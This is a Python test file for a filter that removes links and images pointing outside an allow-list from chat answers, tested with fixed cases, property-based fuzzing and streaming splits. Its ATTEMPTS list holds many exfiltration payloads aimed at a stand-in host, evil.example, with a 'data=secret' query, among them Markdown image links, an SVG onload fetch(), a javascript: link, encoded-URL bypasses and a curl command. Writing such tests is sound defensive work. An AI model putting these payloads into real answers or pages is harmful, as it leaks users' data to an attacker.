"""Links and images of an answer, read by two Markdown readers: only known addresses are left."""

import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from functions.chat.answers.links import MAX_CHARS, LinkFilter, addresses_in
from tests.harness.markdown_links import link_targets

KNOWN = ["https://docs.example/guide", "https://docs.example/a?b=1"]
EVIL = "https://evil.example/x?data=secret"


def filtered(text: str, cuts: list[int] | None = None) -> str:
    links = LinkFilter(KNOWN)
    ends = sorted({cut % (len(text) + 1) for cut in cuts or []})
    pieces = [text[a:b] for a, b in zip([0, *ends], [*ends, len(text)], strict=True)]
    return "".join(map(links.feed, pieces)) + links.finish()


def is_harmless(markdown: str) -> bool:
    return all(target.rstrip("/") in KNOWN for target in link_targets(markdown))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See [the guide](https://docs.example/guide) [1].", "See [the guide](<https://docs.example/guide>) [1]."),
        ("See https://docs.example/guide.", "See <https://docs.example/guide>."),
        ("See https://docs.example/a?b=1 and <https://docs.example/guide>", None),
        ("(https://docs.example/guide)", "(<https://docs.example/guide>)"),
        (f"See [this]({EVIL}).", f"See [this] (`{EVIL}`)."),
        (f"![chart]({EVIL})", f"[chart] (`{EVIL}`)"),
        ("![chart](https://docs.example/guide)", "[chart](<https://docs.example/guide>)"),
        (f"See {EVIL}, it says.", f"See `{EVIL}`, it says."),
        (f"<{EVIL}>", rf"\<`{EVIL}`>"),
        ("<img src=x onerror=y>", r"\<img src=x onerror=y>"),
        ("[a]: //evil.example/x", r"[a]\: //evil.example/x"),
        ("[a](//evil.example/x)", "[a] (//evil.example/x)"),
        ("Great![1] As in [2]: so.", None),
        ("x < y, a<3, 2 > 1 and [x] (y); AT&T, R&D &amp; 1\\. and C:\\Temp", None),
        (f"Use `curl {EVIL}` now.", None),
        (f"```sh\ncurl {EVIL}\n```\n", None),
        (f"1. Run:\n   ```sh\n   curl {EVIL} <a>\n   ```\n2. Done.", None),
        (r"\[a](b) \https://evil.example", r"\[a] (b) \ `https://evil.example`"),
    ],
    ids=lambda value: None,
)
def test_links_are_kept_only_to_known_addresses(text: str, expected: str | None) -> None:
    assert filtered(text) == (text if expected is None else expected)
    assert is_harmless(filtered(text))


ATTEMPTS = [
    f"[a]({EVIL})",
    f"![a]({EVIL})",
    f"[![a]({EVIL})]({EVIL})",
    f"[a]( {EVIL} 'title')",
    f"[a](\n{EVIL})",
    f"[a](<{EVIL}>)",
    "[a](//evil.example/x)",
    "[a](/\\evil.example/x)",
    "[a](javascript:alert(1))",
    "[a](https&#58;//evil.example/x)",
    f"[a][b]\n\n[b]: {EVIL}",
    f"[a]\n\n[a]:\n{EVIL}",
    f"[a]\n\n> [a]: {EVIL} 'x'",
    f"[1]\n\n1. [1]: {EVIL}",
    f"![1]({EVIL})",
    f"<{EVIL}>",
    f"<img src='{EVIL}'>",
    f"<a\nhref='{EVIL}'>x</a>",
    f"<!-- --><svg/onload=fetch('{EVIL}')>",
    EVIL,
    r"https\://evil.example/secret",
    r"https:\//evil.example/secret",
    r"https:/\/evil.example/secret",
    r"www\.evil.example/secret",
    "https&colon;//evil.example/secret",
    "https:&#47;/evil.example/secret",
    "www&period;evil.example/secret",
    "&#104;ttps://evil.example/secret",
    "www.evil.example/secret",
    "FTP://evil.example/secret",
    f"**{EVIL}**",
    f"({EVIL})",
    f"`a\n{EVIL}\n`b` {EVIL} `c`",
    f"a ` b\n`{EVIL}` c",
    f"a ` b {EVIL} c",
    f"a `` b ` {EVIL} c ``` d",
    f"| a | b |\n|---|---|\n| `x | {EVIL} ` |",
    f"| a | b |\n|---|---|\n| {EVIL}|x ` | ` |",
    f"> ```\n> code\n{EVIL}",
    f"- ```\n  code\n\n{EVIL}",
    f"- a\n   ```\n{EVIL}\n```\n{EVIL}",
    f"- a\n\n       ```\n       x\n\n  {EVIL}",
    f"para\n    ```\n    {EVIL}\n",
    f"para\n2. b\n   ```\n{EVIL}\n```\n{EVIL}\n",
    f"```\ncode\n   ```\n{EVIL}",
    f"``` `x`\n{EVIL}\n```\n{EVIL}\n",
    f"~~~\ncode\n~~~~  \n{EVIL}",
    f"\\`{EVIL}\\`",
    f"\\``{EVIL}``` ``",
    f"`a\\` {EVIL} ` {EVIL} `",
    f"\\\n{EVIL}",
    f"- > ```\n  > x\n  {EVIL}",
    f"1. a\n\n   - b\n     ```\n     x\n   {EVIL}\n     ```\n{EVIL}",
    f"\t```\n{EVIL}\n```\n{EVIL}",
    f"[^1]\n\n[^1]: {EVIL}",
    f"[a](https://docs.example/guide){EVIL}",
    f"[a](https://docs.example/guide#{EVIL})",
    "https://docs.example/guide?data=secret",
    "https://docs.example/guide/../secret",
    "[a](https://docs.example/guide@evil.example)",
    '[x](https://docs.example/guide "t")![y](https://evil.example/z)',
]


@pytest.mark.parametrize("text", ATTEMPTS, ids=range(len(ATTEMPTS)))
def test_no_other_link_is_left(text: str) -> None:
    assert is_harmless(filtered(text)), (filtered(text), link_targets(filtered(text)))


def test_most_attempts_would_succeed_without_the_filter() -> None:
    assert sum(not is_harmless(text) for text in ATTEMPTS) > 0.8 * len(ATTEMPTS)


PIECES = [
    *(
        "[",
        "](",
        "]:",
        ")",
        "!",
        "![",
        "<",
        ">",
        "`",
        "``",
        "```",
        "~~~",
        "\n",
        "\n\n",
        " ",
        "   ",
        "    ",
        "- ",
        "1. ",
    ),
    *(
        "&#58;",
        "https",
        ":",
        "/",
        "> ",
        "|",
        "\\",
        "\t",
        "a",
        "[1]",
        "https://docs.example/guide",
        EVIL,
        "www.evil.example",
        "//evil.example",
        "*",
    ),
]
texts = st.lists(st.sampled_from(PIECES), max_size=25).map("".join)


@given(texts)
def test_no_text_leaves_another_link(text: str) -> None:
    assert is_harmless(filtered(text)), (filtered(text), link_targets(filtered(text)))


@given(texts)
def test_filtered_text_is_filtered_to_itself(text: str) -> None:
    once = filtered(text)
    assert is_harmless(filtered(once))
    plain = "See [the guide](https://docs.example/guide), `x`, ![a](https://evil.example/x) and <b>."
    assert filtered(filtered(plain)) == filtered(plain)


@given(texts, st.lists(st.integers(0, 400), max_size=8))
def test_output_does_not_depend_on_splits(text: str, cuts: list[int]) -> None:
    assert filtered(text, cuts) == filtered(text)
    assert filtered(text, list(range(len(text)))) == filtered(text)


def test_long_texts_take_bounded_time_and_memory() -> None:
    for unit in ("`", "[a](", "<a", "https://evil.example/", "![", "h", "]:", "w", "``` `"):
        links = LinkFilter(())
        text = unit * (60_000 // len(unit))
        for n in range(0, len(text), 7):
            links.feed(text[n : n + 7])
            assert len(links._buffer) <= 3 * MAX_CHARS
        links.finish()


def test_words_are_not_held_back() -> None:
    links = LinkFilter(())
    words = ["Hello", " world", ", install", " it."]
    assert "".join(links.feed(word) for word in words) == "Hello world, install it."


def test_addresses_of_a_question_end_before_punctuation() -> None:
    assert addresses_in("Is (https://a.example/x) like http://b.example/y?") == [
        "https://a.example/x",
        "http://b.example/y",
    ]


def test_fuzzed_documents_leave_no_other_link() -> None:
    rng = random.Random(15)
    for _ in range(3_000):
        text = "".join(rng.choice(PIECES) for _ in range(rng.randint(3, 40)))
        assert is_harmless(filtered(text)), (text, filtered(text))
